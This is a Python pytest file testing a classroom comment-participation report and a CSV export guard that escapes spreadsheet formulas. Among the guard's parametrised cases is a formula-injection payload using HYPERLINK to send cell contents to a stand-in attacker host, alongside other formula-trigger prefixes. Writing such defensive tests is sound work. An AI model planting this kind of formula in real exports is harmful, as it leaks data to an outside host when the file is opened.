"""The participation report against a class built by hand, and the spreadsheet formula guard."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import pytest

from app.classroom.participation import Scope, build_report, load_facts, sort_rows
from app.classroom.spreadsheet import csv_document, neutralize
from app.extensions import db
from app.models import CommentStatus, StudentCommentLink

APPROVED, PENDING, SPAM, TRASH = (
    CommentStatus.APPROVED,
    CommentStatus.PENDING,
    CommentStatus.SPAM,
    CommentStatus.TRASH,
)
DUE = datetime(2026, 3, 5, 17, 0, tzinfo=UTC)
NOW = datetime(2026, 4, 1, 12, 0, tzinfo=UTC)
HOUR = timedelta(hours=1)


@pytest.fixture
def hand_built_class(app, make_post, make_student, make_comment, instructor):
    """Five students (one silent, one writing under another email) and a guest, on a post due
    March 5 at 17:00 and a second post with no due date."""
    p1 = make_post(slug="speech", title="The Secret Speech", due_at=DUE)
    p2 = make_post(slug="thaw", title="The Thaw")
    ids = {
        name: make_student(name, f"{name.lower()}@example.com", section)
        for name, section in (("Ada", "A"), ("Ben", "A"), ("Cy", "B"), ("Dee", "B"))
    }
    ids["Eve"] = make_student("Eve", "eve@school.edu", "B")

    def comment(post, who, email, when, status=APPROVED, parent=None, body="A reply.", **extra):
        return make_comment(
            post, status=status, author_name=who, author_email=email, created_at=when,
            parent_id=parent, body=body, **extra,
        )  # fmt: skip

    c = {}
    c[1] = comment(p1, "Ada", "ada@example.com", DUE - 2 * HOUR, body="one two three four")
    c[2] = comment(p1, "Ben", "Ben@Example.com ", DUE - HOUR, parent=c[1], body="I agree with you")
    c[3] = comment(p1, "Cy", "cy@example.com", DUE + HOUR, parent=c[2], body="a late reply")
    c[4] = comment(p1, "Ada", "ada@example.com", DUE + 2 * HOUR, PENDING, c[3], body="thanks Cy")
    c[5] = comment(p1, "Ben", "ben@example.com", DUE - HOUR / 2, TRASH, body="oops wrong post")
    c[6] = comment(p1, "Gus", "gus@example.net", DUE - HOUR * 0.8, parent=c[1], body="guest words")
    c[7] = comment(p1, "Eve O.", "EVE.Other@Gmail.com", DUE - 3 * HOUR, body="from home")
    c[8] = comment(
        p1, "Professor Lee", "prof@example.edu", DUE + 3 * HOUR, parent=c[3], body="Good.",
        instructor_id=instructor,
    )  # fmt: skip
    c[9] = comment(p1, "Ada", "ada@example.com", DUE + 4 * HOUR, SPAM, body="buy now")
    c[10] = comment(
        p1, "Ada", "ada@example.com", DUE - 1.5 * HOUR, parent=c[1], body="adding one more thought"
    )
    c[11] = comment(p2, "Cy", "cy@example.com", datetime(2026, 3, 10, 9, tzinfo=UTC), body="x y")
    with app.app_context():
        db.session.add(StudentCommentLink(comment_id=c[7], student_id=ids["Eve"]))
        db.session.commit()
    return {"posts": (p1, p2), "students": ids, "comments": c}


def report_for(app, scope):
    with app.app_context():
        return build_report(load_facts(scope), scope, now=NOW, zone=UTC)


def numbers(row):
    return {
        key: getattr(row, key)
        for key in (
            "submitted", "approved", "pending", "discarded", "top_level",
            "replies_to_classmates", "replies_received", "words", "on_time", "late", "missing",
        )
    }  # fmt: skip


def test_the_reports_numbers_for_one_post(app, hand_built_class):
    p1, _ = hand_built_class["posts"]
    report = report_for(app, Scope(post_id=p1))
    rows = {row.name: row for row in report.rows}
    assert list(rows) == ["Ada", "Ben", "Cy", "Dee", "Eve"]
    assert numbers(rows["Ada"]) == {
        "submitted": 4, "approved": 2, "pending": 1, "discarded": 1, "top_level": 1,
        # Her reply to Cy counts; her reply to herself does not.
        "replies_to_classmates": 1, "replies_received": 2, "words": 4 + 4,
        "on_time": 1, "late": 0, "missing": 0,
    }  # fmt: skip
    assert (rows["Ada"].first, rows["Ada"].last) == (DUE - 2 * HOUR, DUE + 2 * HOUR)
    assert numbers(rows["Ben"]) == {
        "submitted": 2, "approved": 1, "pending": 0, "discarded": 1, "top_level": 0,
        "replies_to_classmates": 1, "replies_received": 1, "words": 4,
        "on_time": 1, "late": 0, "missing": 0,
    }  # fmt: skip
    # A late reply to a classmate; replies received include the instructor's.
    assert numbers(rows["Cy"]) == {
        "submitted": 1, "approved": 1, "pending": 0, "discarded": 0, "top_level": 0,
        "replies_to_classmates": 1, "replies_received": 2, "words": 3,
        "on_time": 0, "late": 1, "missing": 0,
    }  # fmt: skip
    # The student with no comment is in the report, missing.
    assert numbers(rows["Dee"]) == {**dict.fromkeys(numbers(rows["Dee"]), 0), "missing": 1}
    assert not rows["Dee"].has_participated and rows["Dee"].first is None
    # Linked by hand: written under another email.
    assert (rows["Eve"].submitted, rows["Eve"].top_level, rows["Eve"].on_time) == (1, 1, 1)
    # The guest is listed below, never missing; the instructor is nobody's row.
    assert [(g.name, g.email) for g in report.guests] == [("Gus", "gus@example.net")]
    assert numbers(report.guests[0]) == {
        "submitted": 1, "approved": 1, "pending": 0, "discarded": 0, "top_level": 0,
        "replies_to_classmates": 0, "replies_received": 0, "words": 2,
        "on_time": 1, "late": 0, "missing": 0,
    }  # fmt: skip
    assert [row.name for row in report.not_participated] == ["Dee"]
    assert [row.name for row in report.with_late] == ["Cy"]


def test_all_posts_a_section_and_a_date_range(app, hand_built_class):
    everything = {row.name: row for row in report_for(app, Scope()).rows}
    assert (everything["Cy"].submitted, everything["Cy"].top_level) == (2, 1)
    assert (everything["Cy"].late, everything["Dee"].missing) == (1, 1)  # only one post is due

    section_b = report_for(app, Scope(section="B"))
    assert [row.name for row in section_b.rows] == ["Cy", "Dee", "Eve"]
    assert section_b.guests == []

    # From March 6: the March 5 post is neither counted nor missing.
    later = report_for(app, Scope(start=datetime(2026, 3, 6, tzinfo=UTC)))
    rows = {row.name: row for row in later.rows}
    assert rows["Cy"].submitted == 1 and rows["Ada"].submitted == 0
    assert all(row.missing == 0 for row in later.rows)


def test_sorting_by_any_column_keeps_empty_values_last(app, hand_built_class):
    p1, _ = hand_built_class["posts"]
    rows = report_for(app, Scope(post_id=p1)).rows
    assert [r.name for r in sort_rows(rows, "words", True)] == ["Ada", "Ben", "Cy", "Eve", "Dee"]
    assert [r.name for r in sort_rows(rows, "first", False)] == ["Eve", "Ada", "Ben", "Cy", "Dee"]
    assert [r.name for r in sort_rows(rows, "first", True)] == ["Cy", "Ben", "Ada", "Eve", "Dee"]
    assert [r.name for r in sort_rows(rows, "section", False)][:2] == ["Ada", "Ben"]
    assert sort_rows(rows, "no-such-column", False)[0].name == "Ada"


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "'=HYPERLINK("),
        ("+1-555-0100", "'+1"),
        ("-2+3", "'-2"),
        ("@SUM(A1:A9)", "'@SUM"),
        ("\t=1+1", "'\t=1"),
        ("\r=1+1", "'\r=1"),
        ("  =1+1", "'  =1+1"),
        ("A plain answer = fine", "A plain answer = fine"),
        ("", ""),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_neutralised(cell, safe):
    assert str(neutralize(cell)).startswith(safe)
    assert neutralize(42) == 42 and neutralize(None) is None


def test_csv_document_writes_numbers_as_numbers():
    data = csv_document(["Name", "Words"], [["Zoë", 12], ["-neg", -3]])
    assert data == "\ufeffName,Words\r\nZoë,12\r\n'-neg,-3\r\n".encode()
